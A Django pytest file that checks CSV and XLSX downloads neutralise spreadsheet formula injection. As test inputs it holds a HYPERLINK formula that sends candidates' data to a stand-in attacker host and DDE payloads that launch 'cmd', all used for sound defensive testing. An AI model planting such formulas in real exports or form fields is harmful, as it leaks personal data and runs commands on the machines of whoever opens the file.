"""Formula injection: text that people typed (a profile, an assessor's note, a service's name)
reaches every CSV and XLSX download. A spreadsheet runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) as a formula, e.g.
``=HYPERLINK("https://jahat.example/?"&C3, "Klik")`` sends other candidates' data off-site. Every
download neutralises such text the OWASP way (a leading ``'``), in both formats; an XLSX cell is
never stored as a formula; numbers and dates stay numbers and dates.

The exports are found through ``portal.exports.table_response``: rosters and attendance lists
(scheduling.staff_views), a session's results and a period's recap (scheduling.result_views),
the complaint report (complaints.report_views) and the survey results (survey.views).
"""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from complaints.constants import Channel, ComplaintKind
from portal.constants import Role
from portal.exports import cell_neutralise, table_csv, table_xlsx
from registration.constants import ApplicationStatus
from scheduling.constants import Attendance, Outcome
from scheduling.results import result_publish, result_record
from scheduling.services import seat_take
from survey.constants import SurveySource
from survey.models import SurveyResponse
from tests.complaints.conftest import make_complaint  # noqa: F401 - a fixture
from tests.factories import ApplicationFactory, ProfileFactory, ServiceFactory
from tests.scheduling.conftest import head_assessor, make_session, scheduler  # noqa: F401
from tests.scheduling.test_results import mark, start

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://jahat.example/?d="&C3&D3,"Klik untuk detail")'
PAYLOADS = {
    "name": LINK,
    "institution": "+cmd|' /C calc'!A0",
    "work_unit": "-2+3+cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mailing_address": "\t=1+1",
    "notes": "=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_no_formula_anywhere(client, url: str, params: dict | None = None, *, payloads) -> None:
    """Both downloads of `url`: no cell a spreadsheet would run, and each payload is there,
    neutralised, in both."""
    params = params or {}
    csv_url, xlsx_url = (url.format(fmt=fmt) for fmt in ("csv", "xlsx"))
    csv_params, xlsx_params = (
        {**params, "format": fmt} if "format" in params else params for fmt in ("csv", "xlsx")
    )

    text = [cell for row in csv_cells(client.get(csv_url, csv_params)) for cell in row]
    assert not [cell for cell in text if cell.startswith(TRIGGERS)]
    for payload in payloads:
        assert "'" + payload in text

    cells = [cell for row in xlsx_cells(client.get(xlsx_url, xlsx_params)) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    strings = [cell.value for cell in cells if cell.data_type == "s"]
    assert not [value for value in strings if value.startswith(TRIGGERS)]
    for payload in payloads:
        assert "'" + payload in strings


def hostile_application(**fields):
    """A verified application whose candidate typed a formula into every profile field."""
    profile = ProfileFactory(
        title_prefix="",
        title_suffix="",
        name=PAYLOADS["name"],
        institution=PAYLOADS["institution"],
        work_unit=PAYLOADS["work_unit"],
        position=PAYLOADS["position"],
        mailing_address=PAYLOADS["mailing_address"],
    )
    return ApplicationFactory(candidate=profile.user, status=ApplicationStatus.VERIFIED, **fields)


# --- the one function ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # some spreadsheets trim leading spaces on import
        ("\n=1+1", "'\n=1+1"),
        ("Rina Wulandari, S.I.Pust.", "Rina Wulandari, S.I.Pust."),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (-0.5, -0.5),
        (date(2026, 1, 2), date(2026, 1, 2)),
        (None, None),
    ],
)
def test_cell_neutralise_prefixes_text_a_spreadsheet_would_run_and_leaves_numbers(value, expected):
    assert cell_neutralise(value) == expected


def test_both_formats_neutralise_text_and_keep_numbers_and_dates():
    headers = ["=Nama", "Nilai", "Tanggal"]
    rows = [[LINK, Decimal("-2.5"), datetime(2026, 12, 7, 2, 0, tzinfo=UTC)], ["-", -3, None]]

    text = list(csv.reader(io.StringIO(table_csv(headers=headers, rows=rows).decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(table_xlsx(headers=headers, rows=rows))).active

    assert text == [
        ["'=Nama", "Nilai", "Tanggal"],
        ["'" + LINK, "-2.5", "2026-12-07 09:00"],
        ["'-", "-3", ""],
    ]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["A1"].value == "'=Nama"
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'" + LINK, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-2.5, "n")
    assert sheet["C2"].value == datetime(2026, 12, 7, 9, 0)
    assert (sheet["A3"].value, sheet["B3"].value) == ("'-", -3)


def test_xlsx_drops_control_characters_a_workbook_cannot_hold():
    rows = [["Rina\x1bWulandari\x00", "=A1\x07"]]

    sheet = load_workbook(io.BytesIO(table_xlsx(headers=["Nama", "Catatan"], rows=rows))).active

    assert [sheet["A2"].value, sheet["B2"].value] == ["RinaWulandari", "'=A1"]


# --- every download in the project ------------------------------------------------------------


@pytest.fixture
def roster(make_session, scheduler):  # noqa: F811 - the fixtures imported above
    session = make_session()
    seat_take(session=session, application=hostile_application(), actor=scheduler)
    return session


@pytest.mark.parametrize("name", ["scheduling_roster_export", "scheduling_attendance_export"])
def test_rosters_and_attendance_lists_neutralise_profile_text(client, scheduler, roster, name):  # noqa: F811
    client.force_login(scheduler)
    url = reverse(name, args=[roster.pk, "FMT"]).replace("FMT", "{fmt}")

    expected = [PAYLOADS["name"], PAYLOADS["institution"]]
    if name == "scheduling_roster_export":
        expected += [PAYLOADS["work_unit"]]
    assert_no_formula_anywhere(client, url, payloads=expected)


@pytest.fixture
def published(make_session, scheduler, head_assessor):  # noqa: F811
    """A session held yesterday whose one result, with a hostile note, is published."""
    session = make_session(head_assessor=head_assessor)
    seat = seat_take(session=session, application=hostile_application(), actor=scheduler)
    session = start(session)
    mark([seat], Attendance.PRESENT, head_assessor)
    result_record(
        seat=seat, actor=head_assessor, outcome=Outcome.PASSED, score=90, notes=PAYLOADS["notes"]
    )
    result_publish(session=session, actor=head_assessor)
    return session


def test_a_sessions_results_neutralise_names_and_notes(client, head_assessor, published):  # noqa: F811
    client.force_login(head_assessor)
    url = reverse("results_session_export", args=[published.pk, "FMT"]).replace("FMT", "{fmt}")

    assert_no_formula_anywhere(client, url, payloads=[PAYLOADS["name"], PAYLOADS["notes"]])


def test_the_period_recap_neutralises_names_and_notes(client, scheduler, published):  # noqa: F811
    client.force_login(scheduler)
    today = timezone.localdate()
    period = {
        "dari": (today - timedelta(days=2)).isoformat(),
        "sampai": today.isoformat(),
        "format": "csv",
    }

    assert_no_formula_anywhere(
        client,
        reverse("results_period_export"),
        period,
        payloads=[PAYLOADS["name"], PAYLOADS["notes"]],
    )


def test_the_period_recap_keeps_the_score_a_number(client, scheduler, published):  # noqa: F811
    client.force_login(scheduler)
    today = timezone.localdate()
    period = {
        "dari": (today - timedelta(days=2)).isoformat(),
        "sampai": today.isoformat(),
        "format": "xlsx",
    }

    header, row = xlsx_cells(client.get(reverse("results_period_export"), period))

    score = row[[cell.value for cell in header].index("Nilai")]
    assert (score.value, score.data_type) == (90, "n")


@pytest.fixture
def hostile_service():
    """A service an administrator named with a formula (the name reaches both reports)."""
    return ServiceFactory(name=LINK, slug="layanan-jahat", is_active=True)


def test_the_complaint_report_neutralises_service_names(
    client,
    make_user,
    make_complaint,  # noqa: F811
    hostile_service,
):
    make_complaint(
        service=hostile_service,
        kind=ComplaintKind.COMPLAINT,
        channel=Channel.PORTAL,
        subject="-1+1",
        reporter_name="@SUM(1)",
    )
    # The team of the service's provider: nobody else's report holds its complaints.
    client.force_login(
        make_user("pengelola", Role.COMPLAINT_HANDLER, provider=hostile_service.provider)
    )
    today = timezone.localdate().isoformat()
    url = reverse("complaint_report_staff_download", args=["FMT"]).replace("FMT", "{fmt}")

    assert_no_formula_anywhere(client, url, {"dari": today, "sampai": today}, payloads=[LINK])


def test_the_survey_results_neutralise_service_names(client, make_user, hostile_service):
    SurveyResponse.objects.create(
        service=hostile_service,
        source=SurveySource.PUBLIC,
        suggestion="=HYPERLINK(1)",
        **{f"u{n}": 4 for n in range(1, 10)},
    )
    client.force_login(
        make_user("pengelola", Role.COMPLAINT_HANDLER, provider=hostile_service.provider)
    )
    url = reverse("survey_results_export", args=["FMT"]).replace("FMT", "{fmt}")

    assert_no_formula_anywhere(client, url, payloads=[LINK])


def test_every_export_url_in_the_project_is_covered_here():
    """A new download through table_response must be added to this file."""
    root = Path(__file__).resolve().parents[2]
    callers = sorted(
        str(path.relative_to(root))
        for path in root.glob("*/*.py")
        if ".venv" not in path.parts
        and path.name != "exports.py"
        and "table_response(" in path.read_text()
    )

    assert callers == [
        "complaints/report_views.py",
        # The seal report's CSV: tests/complaints/test_complaint_seal.py.
        "complaints/seal_views.py",
        "scheduling/result_views.py",
        "scheduling/staff_views.py",
        "survey/views.py",
    ]
